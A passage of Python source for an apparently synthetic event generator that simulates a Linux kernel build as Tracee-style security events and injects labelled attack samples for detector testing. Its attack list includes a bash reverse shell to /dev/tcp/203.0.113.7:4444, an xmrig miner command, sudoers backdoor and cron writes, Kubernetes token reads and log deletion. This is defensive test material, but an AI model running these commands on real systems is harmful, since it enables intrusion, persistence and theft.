            ("addr", "void*", 0),
            ("length", "size_t", size),
            ("prot", "int", prot),
            ("flags", "int", MAP_PRIVATE | MAP_DENYWRITE),
            ("fd", "int", 3),
            ("off", "off_t", 0),
        ], base
        if exec_segment:
            segments = ((PROT_READ | PROT_EXEC, 0x28000), (PROT_READ, (size // 2) & ~0xFFF), (PROT_READ | PROT_WRITE, (size - 0x6000) & ~0xFFF))
            for seg_prot, off in segments:
                yield p, "security_mmap_file", [
                    ("pathname", "const char*", path),
                    ("flags", "int", O_LARGEFILE | O_CLOEXEC),
                    ("dev", "dev_t", DEV_ROOT),
                    ("inode", "unsigned long", inode),
                    ("ctime", "unsigned long", OLD_CTIME + inode),
                    ("prot", "unsigned long", seg_prot),
                    ("mmap_flags", "unsigned long", MAP_PRIVATE | MAP_FIXED | MAP_DENYWRITE),
                ], 0
                yield p, "mmap", [
                    ("addr", "void*", base + off),
                    ("length", "size_t", 0x4000 + ((size >> 3) & ~0xFFF)),
                    ("prot", "int", seg_prot),
                    ("flags", "int", MAP_PRIVATE | MAP_FIXED | MAP_DENYWRITE),
                    ("fd", "int", 3),
                    ("off", "off_t", off),
                ], base + off
        yield p, "close", [("fd", "int", 3)], 0
        if exec_segment:
            yield p, "mprotect", [
                ("addr", "void*", base + ((size - 0x6000) & ~0xFFF)),
                ("len", "size_t", 0x4000),
                ("prot", "int", PROT_READ),
            ], 0

    def load_libraries(self, p: _Proc, libs: list[str]):
        yield from self.map_file(p, "/etc/ld.so.cache", 61_253, PROT_READ)
        for lib in libs:
            yield from self.map_file(p, LIBDIR + lib, _LIB_SIZE.get(lib, 180_000), PROT_READ, True)

    def exit(self, p: _Proc, code: int = 0):
        yield p, "sched_process_exit", [
            ("exit_code", "long", code),
            ("process_group_exit", "bool", True),
        ], 0

    # -- files -------------------------------------------------------------

    def open_file(self, p: _Proc, syspath: str, abspath: str, flags: int, close: bool = True, dev: int = DEV_ROOT):
        inode = _inode(abspath)
        fflags = (flags | O_LARGEFILE) & ~(O_CREAT | O_TRUNC | O_NOCTTY)
        yield p, "security_file_open", [
            ("pathname", "const char*", abspath),
            ("flags", "int", fflags),
            ("dev", "dev_t", dev),
            ("inode", "unsigned long", inode),
            ("ctime", "unsigned long", (self.now - 1_000_000_000) if flags & (O_WRONLY | O_RDWR) else OLD_CTIME + inode),
            ("syscall_pathname", "const char*", syspath),
        ], 0
        yield p, "openat", [
            ("dirfd", "int", AT_FDCWD),
            ("pathname", "const char*", syspath),
            ("flags", "int", flags),
            ("mode", "umode_t", 0o666 if flags & O_CREAT else 0),
        ], 3
        if close:
            yield p, "close", [("fd", "int", 3)], 0

    def open_missing(self, p: _Proc, syspath: str, flags: int):
        yield p, "openat", [
            ("dirfd", "int", AT_FDCWD),
            ("pathname", "const char*", syspath),
            ("flags", "int", flags),
            ("mode", "umode_t", 0),
        ], ENOENT

    def tree_path(self, rel: str) -> str:
        return rel if rel.startswith("/") else f"{BUILD_ROOT}/{rel}"

    def write_file(self, p: _Proc, rel: str, flags: int, head: str, dev: int = DEV_ROOT):
        abspath = self.tree_path(rel)
        yield from self.open_file(p, rel, abspath, flags, close=False, dev=dev)
        yield p, "magic_write", [
            ("pathname", "const char*", abspath),
            ("bytes", "bytes", head),
            ("dev", "dev_t", dev),
            ("inode", "unsigned long", _inode(abspath)),
        ], 0
        yield p, "close", [("fd", "int", 3)], 0

    def unlink(self, p: _Proc, rel: str, dev: int = DEV_ROOT):
        abspath = self.tree_path(rel)
        inode = _inode(abspath)
        yield p, "security_inode_unlink", [
            ("pathname", "const char*", abspath),
            ("inode", "unsigned long", inode),
            ("dev", "dev_t", dev),
            ("ctime", "unsigned long", self.now - 500_000_000),
        ], 0

    def include(self, p: _Proc, header: str):
        """cc1 finding `header` on the include path (with the misses before it)."""
        steps = self.include_cache.get(header)
        if steps is None:
            steps = self.include_cache[header] = [(name, args, ret) for _, name, args, ret in self._include(p, header)]
        for name, args, ret in steps:
            yield p, name, args, ret

    def read_header(self, p: _Proc, header: str, flags: int = O_RDONLY):
        """Open a header by its name (fixdep reading a dependency; cc1 a -include)."""
        steps = self.read_cache.get((header, flags))
        if steps is None:
            syspath = "./" + header if flags & O_NOCTTY else header
            steps = self.read_cache[(header, flags)] = [
                (name, args, ret) for _, name, args, ret in self.open_file(p, syspath, self.tree_path(header), flags)
            ]
        for name, args, ret in steps:
            yield p, name, args, ret

    def _include(self, p: _Proc, header: str):
        if header.startswith("/"):
            yield from self.open_file(p, header, header, O_RDONLY | O_NOCTTY)
            return
        for prefix in _SEARCH:
            if header.startswith(prefix) and not any(
                len(q) > len(prefix) and header.startswith(q) for q in _SEARCH
            ):
                rest = header[len(prefix):]
                for miss in _SEARCH[: _SEARCH.index(prefix)]:
                    yield from self.open_missing(p, "./" + miss + rest, O_RDONLY | O_NOCTTY)
                break
        yield from self.open_file(p, "./" + header, self.tree_path(header), O_RDONLY | O_NOCTTY)

    # -- jobs --------------------------------------------------------------

    def run(self, parent: _Proc, prog: str, argv: list[str], how: str = "fork", box: list | None = None, before=None):
        """fork + exec of a program; the child is appended to `box`."""
        box = [] if box is None else box
        yield from self.fork(parent, how, box)
        child = box[-1]
        if before is not None:
            yield from before(child)
        yield from self.exec(child, prog, argv)

    def shell(self, parent: _Proc, script: str, box: list):
        yield from self.run(parent, "sh", ["/bin/sh", "-c", script], "spawn", box)

    def compile_job(self, d: _Dir, obj: str):
        """sh -c 'gcc ... -c -o OBJ SRC; objtool; fixdep > .cmd; rm .d'."""
        rng = self.rng
        src = f"{d.name}/{obj[:-2]}.c"
        target = f"{d.name}/{obj}"
        tdir, _, tbase = target.rpartition("/")
        depfile = f"{tdir}/.{tbase}.d"
        cmdfile = f"{tdir}/.{tbase}.cmd"
        gcc_argv = [
            "gcc", f"-Wp,-MMD,{depfile}", "-nostdinc", "-I./arch/x86/include", "-I./arch/x86/include/generated",
            "-I./include", "-I./arch/x86/include/uapi", "-I./arch/x86/include/generated/uapi", "-I./include/uapi",
            "-I./include/generated/uapi", "-include", "./include/linux/compiler-version.h", "-include",
            "./include/linux/kconfig.h", "-include", "./include/linux/compiler_types.h", "-D__KERNEL__",
            "-std=gnu11", "-fshort-wchar", "-funsigned-char", "-fno-common", "-fno-PIE", "-fno-strict-aliasing",
            "-mno-sse", "-mno-mmx", "-mno-sse2", "-mno-3dnow", "-mno-avx", "-fcf-protection=branch",
            "-fno-jump-tables", "-m64", "-falign-jumps=1", "-falign-loops=1", "-mno-80387", "-mno-fp-ret-in-387",
            "-mpreferred-stack-boundary=3", "-mskip-rax-setup", "-mtune=generic", "-mno-red-zone",
            "-mcmodel=kernel", "-Wall", "-Wundef", "-fno-delete-null-pointer-checks", "-O2",
            "-fstack-protector-strong", "-fno-omit-frame-pointer", "-fno-optimize-sibling-calls", "-g", "-gdwarf-5",
            "-pg", "-mrecord-mcount", "-mfentry", "-DCC_USING_FENTRY", "-fno-strict-overflow", "-fno-stack-check",
            "-fconserve-stack", f"-DKBUILD_MODFILE=\"{target[:-2]}\"", f"-DKBUILD_BASENAME=\"{tbase[:-2]}\"",
            f"-DKBUILD_MODNAME=\"{tbase[:-2]}\"", f"-D__KBUILD_MODNAME=kmod_{tbase[:-2].replace('-', '_')}",
            "-c", "-o", target, src,
        ]
        script = (
            f"set -e;  echo '  CC      {target}'; {' '.join(gcc_argv)}  ; ./tools/objtool/objtool --hacks=jump_label "
            f"--hacks=noinstr --hacks=skylake --ibt --orc --retpoline --rethunk --sls --static-call --uaccess "
            f"--prefix=16   --module {target} ; scripts/basic/fixdep {depfile} {target} 'gcc ...' > {cmdfile}; "
            f"rm -f {depfile}"
        )
        box: list[_Proc] = []
        yield from self.shell(d.make, script, box)
        sh = box[0]
        # gcc: the driver runs cc1 then as
        yield from self.run(sh, "gcc", gcc_argv, "fork", box)
        gcc = box[1]
        yield from self.open_missing(gcc, "/usr/lib/gcc/x86_64-linux-gnu/12/specs", O_RDONLY)
        tmp = self.tmpname() + ".s"
        cc1_argv = ["/usr/libexec/gcc/x86_64-linux-gnu/12/cc1", "-quiet", "-nostdinc", *gcc_argv[3:-3], src, "-o", tmp]
        yield from self.run(gcc, "cc1", cc1_argv, "vfork", box)
        cc1 = box[2]
        yield from self.open_file(cc1, src, self.tree_path(src), O_RDONLY | O_NOCTTY)
        for header in FORCED_HEADERS:
            yield from self.read_header(cc1, header, O_RDONLY | O_NOCTTY)
        headers = FIRST_HEADERS + rng.sample(HEADERS, rng.randint(90, 240))
        for header in headers:
            yield from self.include(cc1, header)
        headers = FORCED_HEADERS + headers
        yield from self.write_file(cc1, tmp, O_WRONLY | O_CREAT | O_TRUNC, _b64(f'\t.file\t"{tbase[:-2]}.c"\n'.encode()), DEV_TMP)
        yield from self.exit(cc1)
        yield from self.run(gcc, "as", ["as", "--64", "-o", target, tmp], "vfork", box)
        as_ = box[3]
        yield from self.open_file(as_, tmp, tmp, O_RDONLY, dev=DEV_TMP)
        yield from self.write_file(as_, target, O_RDWR | O_CREAT | O_TRUNC, ELF_REL_HEADER)
        yield from self.exit(as_)
        yield from self.unlink(gcc, tmp, DEV_TMP)
        yield from self.exit(gcc)
        # objtool rewrites the object in place
        yield from self.run(sh, "objtool", ["./tools/objtool/objtool", "--orc", "--retpoline", "--module", target], "fork", box)
        tool = box[4]
        yield from self.write_file(tool, target, O_RDWR, ELF_REL_HEADER)
        yield from self.exit(tool)

        # fixdep reads the depfile and every header in it; sh redirects its output

        def redirect(child: _Proc):
            yield from self.open_file(child, cmdfile, self.tree_path(cmdfile), O_WRONLY | O_CREAT | O_TRUNC, close=False)

        yield from self.run(sh, "fixdep", ["scripts/basic/fixdep", depfile, target, "gcc ..."], "fork", box, redirect)
        fixdep = box[5]
        yield from self.open_file(fixdep, depfile, self.tree_path(depfile), O_RDONLY)
        for header in headers:
            if not header.startswith("/"):
                yield from self.read_header(fixdep, header)
        cmd_path = self.tree_path(cmdfile)
        yield fixdep, "magic_write", [
            ("pathname", "const char*", cmd_path),
            ("bytes", "bytes", _b64(f"savedcmd_{target} := gcc".encode())),
            ("dev", "dev_t", DEV_ROOT),
            ("inode", "unsigned long", _inode(cmd_path)),
        ], 0
        yield from self.exit(fixdep)
        yield from self.run(sh, "rm", ["rm", "-f", depfile], "fork", box)
        yield from self.unlink(box[6], depfile)
        yield from self.exit(box[6])
        yield from self.exit(sh)
        d.objects.append(target)

    def archive_job(self, d: _Dir):
        """The sub-make's last step: ar cDPrST DIR/built-in.a OBJS..."""
        archive = f"{d.name}/built-in.a"
        box: list[_Proc] = []
        yield from self.shell(d.make, f"rm -f {archive}; ar cDPrST {archive} {' '.join(d.objects)}", box)
        yield from self.run(box[0], "rm", ["rm", "-f", archive], "fork", box)
        yield from self.exit(box[1])
        yield from self.run(box[0], "ar", ["ar", "cDPrST", archive, *d.objects], "fork", box)
        ar = box[2]
        for obj in d.objects:
            yield from self.open_file(ar, obj, self.tree_path(obj), O_RDONLY)
        tmp = f"{d.name}/st{self.rng.getrandbits(20):06x}"
        yield from self.write_file(ar, tmp, O_RDWR | O_CREAT | O_TRUNC, THIN_ARCHIVE)
        yield ar, "security_inode_rename", [
            ("old_path", "const char*", self.tree_path(tmp)),
            ("new_path", "const char*", self.tree_path(archive)),
        ], 0
        yield from self.exit(ar)
        yield from self.exit(box[0])

    def enter_dir(self, d: _Dir):
        """make -f ./scripts/Makefile.build obj=DIR, forked by the top make."""
        box: list[_Proc] = []
        yield from self.run(self.top, "make", ["make", "-f", "./scripts/Makefile.build", f"obj={d.name}", "need-builtin=1", "need-modorder=1"], "spawn", box)
        mk = box[0]
        for rel in ("include/config/auto.conf", "scripts/Kbuild.include", "scripts/Makefile.compiler", f"{d.name}/Makefile", "scripts/Makefile.lib"):
            yield from self.open_file(mk, rel, self.tree_path(rel), O_RDONLY)
        for obj in d.units:
            tdir, _, tbase = f"{d.name}/{obj}".rpartition("/")
            yield from self.open_missing(mk, f"{tdir}/.{tbase}.cmd", O_RDONLY)
        d.make = mk
        d.ready = True

    def leave_dir(self, d: _Dir):
        yield from self.archive_job(d)
        yield from self.exit(d.make)

    def prologue(self):
        """make -j8: syncconfig, setlocalversion, the host tool fixdep."""
        box: list[_Proc] = []
        yield from self.run(self.login, "make", ["make", "-j8"], "fork", box)
        self.top = top = box[0]
        for rel in ("Makefile", "scripts/Kbuild.include", ".config", "include/config/auto.conf.cmd", "scripts/subarch.include", "arch/x86/Makefile"):
            yield from self.open_file(top, rel, self.tree_path(rel), O_RDONLY)
        # scripts/kconfig/conf --syncconfig Kconfig reads every Kconfig file
        yield from self.run(top, "conf", ["scripts/kconfig/conf", "--syncconfig", "Kconfig"], "spawn", box)
        conf = box[1]
        kconfigs = list(KCONFIGS)
        self.rng.shuffle(kconfigs)
        for rel in ["Kconfig", *kconfigs]:
            yield from self.open_file(conf, rel, self.tree_path(rel), O_RDONLY)
        for rel, head in (("include/config/auto.conf", "#\n# Automatically gen"), ("include/generated/autoconf.h", "/*\n * Automatically ge")):
            yield from self.write_file(conf, rel + ".tmp", O_WRONLY | O_CREAT | O_TRUNC, _b64(head.encode()))
            yield conf, "security_inode_rename", [
                ("old_path", "const char*", self.tree_path(rel + ".tmp")),
                ("new_path", "const char*", self.tree_path(rel)),
            ], 0
        yield from self.exit(conf)
        # setlocalversion asks git; mkcompile_h asks who built it (nscd first)
        yield from self.shell(top, "scripts/setlocalversion", box)
        sh = box[2]
        yield from self.run(sh, "git", ["git", "--no-optional-locks", "describe", "--abbrev=12", "--exact-match"], "fork", box)
        git = box[3]
        for rel in (".git/HEAD", ".git/config", ".git/commondir", ".git/packed-refs", ".git/refs/tags"):
            yield from self.open_file(git, rel, self.tree_path(rel), O_RDONLY)
        yield from self.exit(git, 128)
        yield from self.run(sh, "whoami", ["whoami"], "fork", box)
        who = box[4]
        yield from self.open_file(who, "/etc/nsswitch.conf", "/etc/nsswitch.conf", O_RDONLY | O_CLOEXEC)
        yield who, "security_socket_connect", [
            ("sockfd", "int", 3),
            ("type", "int", 1),
            ("remote_addr", "struct sockaddr*", {"sa_family": "AF_UNIX", "sun_path": "/var/run/nscd/socket"}),
        ], 0
        yield who, "connect", [
            ("sockfd", "int", 3),
            ("addr", "struct sockaddr*", {"sa_family": "AF_UNIX", "sun_path": "/var/run/nscd/socket"}),
            ("addrlen", "int", 110),
        ], ENOENT
        yield from self.open_file(who, "/etc/passwd", "/etc/passwd", O_RDONLY | O_CLOEXEC)
        yield from self.exit(who)
        yield from self.exit(sh)
        # the host program scripts/basic/fixdep: gcc, cc1, as, collect2, ld
        yield from self.shell(top, "gcc -Wp,-MMD,scripts/basic/.fixdep.d -Wall -O2 -o scripts/basic/fixdep scripts/basic/fixdep.c", box)
        sh = box[5]
        yield from self.run(sh, "gcc", ["gcc", "-Wall", "-O2", "-o", "scripts/basic/fixdep", "scripts/basic/fixdep.c"], "fork", box)
        gcc = box[6]
        tmp_s, tmp_o = self.tmpname() + ".s", self.tmpname() + ".o"
        yield from self.run(gcc, "cc1", ["/usr/libexec/gcc/x86_64-linux-gnu/12/cc1", "-quiet", "scripts/basic/fixdep.c", "-o", tmp_s], "vfork", box)
        cc1 = box[7]
        for header in ("scripts/basic/fixdep.c", "/usr/include/stdio.h", "/usr/include/stdlib.h", "/usr/include/string.h", "/usr/include/unistd.h", "/usr/include/fcntl.h", "/usr/include/x86_64-linux-gnu/sys/stat.h", "/usr/include/x86_64-linux-gnu/sys/mman.h", "/usr/include/ctype.h"):
            yield from self.open_file(cc1, header, self.tree_path(header), O_RDONLY | O_NOCTTY)
        yield from self.write_file(cc1, tmp_s, O_WRONLY | O_CREAT | O_TRUNC, _b64(b'\t.file\t"fixdep.c"\n'), DEV_TMP)
        yield from self.exit(cc1)
        yield from self.run(gcc, "as", ["as", "--64", "-o", tmp_o, tmp_s], "vfork", box)
        yield from self.open_file(box[8], tmp_s, tmp_s, O_RDONLY, dev=DEV_TMP)
        yield from self.write_file(box[8], tmp_o, O_RDWR | O_CREAT | O_TRUNC, ELF_REL_HEADER, DEV_TMP)
        yield from self.exit(box[8])
        yield from self.run(gcc, "collect2", ["/usr/libexec/gcc/x86_64-linux-gnu/12/collect2", "-o", "scripts/basic/fixdep", tmp_o], "vfork", box)
        yield from self.run(box[9], "ld", ["/usr/bin/ld", "-o", "scripts/basic/fixdep", tmp_o, "-lc"], "vfork", box)
        ld = box[10]
        yield from self.open_file(ld, tmp_o, tmp_o, O_RDONLY, dev=DEV_TMP)
        for lib in ("/usr/lib/x86_64-linux-gnu/crt1.o", "/usr/lib/x86_64-linux-gnu/crti.o", "/usr/lib/x86_64-linux-gnu/libc.so", "/usr/lib/x86_64-linux-gnu/libc_nonshared.a"):
            yield from self.open_file(ld, lib, lib, O_RDONLY)
        yield from self.write_file(ld, "scripts/basic/fixdep", O_RDWR | O_CREAT | O_TRUNC, ELF_EXEC_HEADER)
        yield from self.exit(ld)
        yield from self.exit(box[9])
        yield from self.unlink(gcc, tmp_s, DEV_TMP)
        yield from self.unlink(gcc, tmp_o, DEV_TMP)
        yield from self.exit(gcc)
        yield from self.exit(sh)

    # -- the scheduler -------------------------------------------------------

    def new_job(self):
        for d in self.dirs:
            if d.ready and d.units:
                d.outstanding += 1
                return d, self.compile_job(d, d.units.pop(0))
        name, units = UNITS[self.dir_cursor % len(UNITS)]
        self.dir_cursor += 1
        d = _Dir(name, list(units))
        self.dirs.append(d)
        return d, self.enter_dir(d)

    def events(self) -> Iterator[Raw]:
        """Every raw event of the build, forever."""
        rng = self.rng
        yield from self.prologue()
        slots: list[list] = []  # [dir, generator, is_compile]
        while True:
            while len(slots) < CPUS:
                d, gen = self.new_job()
                slots.append([d, gen, d.ready])
            i = rng.randrange(len(slots))
            d, gen, is_compile = slots[i]
            for _ in range(1 + rng.getrandbits(4)):  # a time slice
                item = next(gen, None)
                if item is None:
                    if is_compile:
                        d.outstanding -= 1
                        if not d.units and d.outstanding == 0:
                            self.dirs.remove(d)
                            slots[i] = [d, self.leave_dir(d), False]
                            break
                    slots.pop(i)
                    break
                yield item


# ------------------------------------------------------------------ attacks


def _host_attack(name: str, comm: str, exe: str, args: list[dict], uid: int = 1000, syscall: str | None = None) -> dict:
    return {
        "eventName": name,
        "processName": comm,
        "executable": {"path": exe},
        "userId": uid,
        "syscall": syscall or _SYSCALL_OF.get(name, name),
        "args": args,
    }


def _container_attack(name: str, comm: str, exe: str, args: list[dict]) -> dict:
    cid = "9d3b1f6a2c7e48b5a0d4e6f8a1c3b5d7e9f1a3c5b7d9e1f3a5c7b9d1e3f5a7c9"
    event = _host_attack(name, comm, exe, args, uid=0)
    event.update({
        "containerId": cid,
        "container": {"id": cid, "name": "api", "image": "registry.local/shop/api:2.4.1"},
        "kubernetes": {"podName": "api-5f7d8c9b6-q4wzt", "podNamespace": "shop", "podUID": "4c2e9a71-3b5d-4f60-8e1a-2d3c4b5a6f70"},
        "contextFlags": {"containerStarted": True, "isCompat": False},
        "processId": 23,
        "threadId": 23,
        "parentProcessId": 1,
        "mountNamespace": 4026532713,
        "pidNamespace": 4026532716,
    })
    return event


def _open_args(path: str, flags: int) -> list[dict]:
    return [
        _arg("pathname", "const char*", path),
        _arg("flags", "int", flags),
        _arg("dev", "dev_t", DEV_ROOT),
        _arg("inode", "unsigned long", _inode(path)),
        _arg("ctime", "unsigned long", OLD_CTIME),
        _arg("syscall_pathname", "const char*", path),
    ]


def _exec_args(path: str, argv: list[str]) -> list[dict]:
    return [
        _arg("cmdpath", "const char*", path),
        _arg("pathname", "const char*", path),
        _arg("dev", "dev_t", DEV_ROOT),
        _arg("inode", "unsigned long", _inode(path)),
        _arg("ctime", "unsigned long", OLD_CTIME),
        _arg("inode_mode", "umode_t", S_IFREG_755),
        _arg("interpreter_pathname", "const char*", LD_SO),
        _arg("argv", "const char**", argv),
        _arg("interp", "const char*", path),
        _arg("invoked_from_kernel", "int", 0),
    ]


# Default attack families (used when no signature corpus is given): one
# Tracee-style event per behaviour.
DEFAULT_ATTACKS: list[dict] = [
    {"family": "ptrace-traceme", "event": _host_attack("ptrace", "evil", "/tmp/evil", [
        _arg("request", "long", 0), _arg("pid", "pid_t", 0), _arg("addr", "void*", 0), _arg("data", "void*", 0)])},
    {"family": "ptrace-poketext", "event": _host_attack("ptrace", "inject", "/tmp/inject", [
        _arg("request", "long", 4), _arg("pid", "pid_t", 4170), _arg("addr", "void*", 0x55D1A2B3C000), _arg("data", "void*", 0x90909090)])},
    {"family": "proc-mem-write", "event": _host_attack("security_file_open", "inject", "/tmp/inject", _open_args("/proc/4170/mem", O_RDWR | O_LARGEFILE))},
    {"family": "ld-preload", "event": _host_attack("security_file_open", "bash", "/usr/bin/bash", _open_args("/etc/ld.so.preload", O_WRONLY | O_LARGEFILE), uid=0)},
    {"family": "memfd-exec", "event": _host_attack("sched_process_exec", "3", "memfd:payload (deleted)", _exec_args("memfd:payload (deleted)", ["[kworker/0:1]"]))},
    {"family": "elf-dropped-tmp", "event": _host_attack("magic_write", "curl", "/usr/bin/curl", [
        _arg("pathname", "const char*", "/dev/shm/.x"), _arg("bytes", "bytes", ELF_EXEC_HEADER), _arg("dev", "dev_t", 26), _arg("inode", "unsigned long", 7781)])},
    {"family": "wx-memory", "event": _host_attack("mem_prot_alert", "loader", "/tmp/loader", [
        _arg("alert", "u32", 1), _arg("addr", "void*", 0x7F3A00000000), _arg("len", "size_t", 8192), _arg("prot", "int", 7), _arg("prev_prot", "int", 3)], syscall="mmap")},
    {"family": "kernel-module", "event": _host_attack("init_module", "insmod", "/usr/bin/kmod", [
        _arg("module_image", "void*", 0x55D1A2000000), _arg("len", "unsigned long", 18_432), _arg("param_values", "const char*", "")], uid=0)},
    {"family": "container-device-mount", "event": _container_attack("security_sb_mount", "mount", "/usr/bin/mount", [
        _arg("dev_name", "const char*", "/dev/nvme0n1p2"), _arg("path", "const char*", "/mnt/host"), _arg("type", "const char*", "ext4"), _arg("flags", "unsigned long", 0)])},
    {"family": "k8s-token-read", "event": _container_attack("security_file_open", "cat", "/usr/bin/cat", _open_args("/var/run/secrets/kubernetes.io/serviceaccount/token", O_RDONLY | O_LARGEFILE))},
    {"family": "docker-socket", "event": _container_attack("security_socket_connect", "curl", "/usr/bin/curl", [
        _arg("sockfd", "int", 5), _arg("type", "int", 1), _arg("remote_addr", "struct sockaddr*", {"sa_family": "AF_UNIX", "sun_path": "/var/run/docker.sock"})])},
    {"family": "cron-write", "event": _host_attack("security_file_open", "bash", "/usr/bin/bash", _open_args("/etc/cron.d/update", O_WRONLY | O_LARGEFILE), uid=0)},
    {"family": "sudoers-write", "event": _host_attack("security_file_open", "tee", "/usr/bin/tee", _open_args("/etc/sudoers.d/99-backdoor", O_WRONLY | O_LARGEFILE), uid=0)},
    {"family": "reverse-shell", "event": _host_attack("sched_process_exec", "bash", "/usr/bin/bash", _exec_args("/usr/bin/bash", ["bash", "-i", ">&", "/dev/tcp/203.0.113.7/4444", "0>&1"]))},
    {"family": "miner", "event": _host_attack("sched_process_exec", "xmrig", "/tmp/.x/xmrig", _exec_args("/tmp/.x/xmrig", ["./xmrig", "-o", "stratum+tcp://pool.minexmr.example:4444", "-u", "44AFFq5k"]))},
    {"family": "log-clearing", "event": _host_attack("security_inode_unlink", "rm", "/usr/bin/rm", [
        _arg("pathname", "const char*", "/var/log/auth.log"), _arg("inode", "unsigned long", 393_411), _arg("dev", "dev_t", DEV_ROOT), _arg("ctime", "unsigned long", OLD_CTIME)], uid=0)},
]


def attack_event_names(attacks: Iterable[dict]) -> set[str]:
    return {a["event"].get("eventName", "") for a in attacks}


_NESTED = ("executable", "container", "kubernetes", "contextFlags")
_PID_FIELDS = ("processId", "threadId", "hostProcessId", "hostThreadId")


def complete_args(args: Any) -> Any:
    """Give every argument of an attack template a type (filled in by name)."""
    if not isinstance(args, list):
        return args
    out = []
    for a in args:
        if isinstance(a, dict) and "type" not in a and "name" in a:
            a = {"name": a["name"], "type": ARG_TYPES.get(a["name"], _type_of(a.get("value"))), "value": a.get("value")}
        out.append(a)
    return out


def _type_of(value: Any) -> str:
    if isinstance(value, bool):
        return "bool"
    if isinstance(value, int):
        return "int"
    if isinstance(value, list):
        return "const char**"
    if isinstance(value, dict):
        return "struct sockaddr*"
    return "const char*"


def build_attack_event(template: dict, base: dict, pid: int, now: int) -> dict:
    """An attack event: `base` (a full event of a fresh process) overlaid with
    the template's event, with a fresh timestamp.  Unless the template says
    keep_ids, it is also moved onto this host: fresh pids, and for a host
    process this host's name, namespaces and policies, and Tracee's event id
    and syscall for the event name."""
    event = dict(base)
    src = template["event"]
    for key, value in src.items():
        if key in _NESTED and isinstance(value, dict) and isinstance(base.get(key), dict):
            merged = dict(base[key])
            merged.update(value)
            event[key] = merged
        else:
            event[key] = value
    if event.get("stackAddresses") is None:
        event["stackAddresses"] = []
    name = event.get("eventName", "")
    if "eventId" not in src or not isinstance(src.get("eventId"), str):
        event["eventId"] = EVENT_IDS.get(name, str(src.get("eventId", "1000")))
    if "syscall" not in src:
        event["syscall"] = _SYSCALL_OF.get(name, name)
    event["args"] = complete_args(src.get("args", []))
    event["argsNum"] = len(event["args"]) if isinstance(event["args"], list) else 0
    event["timestamp"] = now
    if not template.get("keep_ids"):
        in_host_ns = src.get("processId", pid) == src.get("hostProcessId", pid)
        fields = _PID_FIELDS if in_host_ns else _PID_FIELDS[2:]
        for key in fields:
            event[key] = pid
        event["hostParentProcessId"] = SHELL_PID if in_host_ns else pid - 1
        if in_host_ns:
            event["parentProcessId"] = SHELL_PID
        event["threadStartTime"] = now - 40_000_000
        event["processEntityId"] = event["threadEntityId"] = zlib.crc32(f"{pid}:{now}".encode())
        if name in EVENT_IDS:
            event["eventId"] = EVENT_IDS[name]
        if name in _SYSCALL_OF:
            event["syscall"] = _SYSCALL_OF[name]
        event["matchedPolicies"] = MATCHED_POLICIES[:]
        on_host = not event.get("containerId") and not (event.get("contextFlags") or {}).get("containerStarted")
        if on_host:
            event["hostName"] = HOSTNAME
            event["mountNamespace"] = MOUNT_NS
            event["pidNamespace"] = PID_NS
            event["cgroupId"] = CGROUP_ID
    return event


# ------------------------------------------------------------------ the stream


def _to_event(p: _Proc, name: str, args: list, ret: int, now: int) -> dict:
    return {
        "timestamp": now,
        "threadStartTime": p.start,
        "processorId": p.cpu,
        "processId": p.pid,
        "cgroupId": CGROUP_ID,
        "threadId": p.pid,
        "parentProcessId": p.ppid,
        "hostProcessId": p.pid,
        "hostThreadId": p.pid,
        "hostParentProcessId": p.ppid,
        "userId": p.uid,
        "mountNamespace": MOUNT_NS,
        "pidNamespace": PID_NS,
        "processName": p.comm,
        "executable": {"path": p.exe},
        "hostName": HOSTNAME,
        "containerId": "",
        "container": {"id": "", "name": "", "image": ""},
        "kubernetes": {"podName": "", "podNamespace": "", "podUID": ""},
        "eventId": EVENT_IDS[name],
        "eventName": name,
        "matchedPolicies": MATCHED_POLICIES[:],
        "argsNum": len(args),
        "returnValue": ret,
        "syscall": _SYSCALL_OF.get(name, name),
        "stackAddresses": [],
        "contextFlags": {"containerStarted": False, "isCompat": False},
        "threadEntityId": p.entity,
        "processEntityId": p.entity,
        "parentEntityId": p.pentity,
        "args": [{"name": n, "type": t, "value": v[:] if type(v) is list else v} for n, t, v in args],
    }


def generate_annotated(
    count: int,
    seed: int = 1,
    attack_rate: float = 0.005,
    selected: Iterable[str] | None = None,
    attacks: Sequence[dict] | None = None,
    tracee: str | None = None,
    parsed: bool = True,
) -> Iterator[tuple[dict, str | None]]:
    """`count` events as (event, attack family or None).

    tracee: a Tracee version ("0.22", "0.24", "main"): every event is made
    what that version writes (transpiler/tracee/conform.py: all arguments of
    the definition, in order, zero-filled, its type names, all parsed when
    `parsed` else all raw); attack templates of events it lacks are left out.

    selected: the event names to keep (None keeps the whole build mix);
    attacks: attack templates {"family", "event", "keep_ids"?}; DEFAULT_ATTACKS
    when None.  Exactly round(count * attack_rate) attack events are placed
    at random positions, cycling through the families (and through the
    variants of a family); removing the attack events gives the stream made
    with attack_rate=0 (unless ~10 attacks fall in a row, which shifts the
    next build timestamp to keep time strictly increasing).
    """
    if count < 0:
        raise ValueError(f"workload: count must be >= 0, not {count}")
    if not 0 <= attack_rate <= 1:
        raise ValueError(f"workload: attack rate must be within [0, 1], not {attack_rate}")
    keep = None if selected is None else frozenset(selected)
    templates = list(DEFAULT_ATTACKS if attacks is None else attacks)
    if tracee is not None:
        from .tracee.conform import conform
        from .tracee.schema import schema

        table = schema(tracee)
        templates = [t for t in templates if table.args(t["event"].get("eventName")) is not None]

        def fit(event: dict) -> dict:
            return conform(event, table, parsed)

    else:
        fit = _identity
    if keep is not None:
        templates = [t for t in templates if t["event"].get("eventName") in keep]
    n_attacks = round(count * attack_rate) if templates else 0
    arng = random.Random(f"attacks:{seed}")
    positions = set(arng.sample(range(count), n_attacks)) if n_attacks else set()
    families: dict[str, list[dict]] = {}
    for t in templates:
        families.setdefault(t.get("family", "attack"), []).append(t)
    order = list(families)
    arng.shuffle(order)
    build = _KernelBuild(seed)
    raw = build.events()
    tick = build.tick
    attack_no = 0
    last = build.now
    for index in range(count):
        if index in positions:
            variants = families[order[attack_no % len(order)]]
            template = variants[(attack_no // len(order)) % len(variants)]
            attack_no += 1
            # Attackers get pids of their own range and a time just after the
            # last event (the next build event is >= 2 us later), so that the
            # build events do not depend on the attacks.
            now = last + 1 + arng.randrange(200)
            last = now
            attacker = _Proc(ATTACKER_PID + attack_no, None, now - 40_000_000, arng.randrange(CPUS))
            attacker.comm = str(template["event"].get("processName", "sh"))
            base = _to_event(attacker, "sched_process_exit", [], 0, now)
            yield fit(build_attack_event(template, base, attacker.pid, now)), template.get("family", "attack")
            continue
        while True:
            p, name, args, ret = next(raw)
            now = tick()
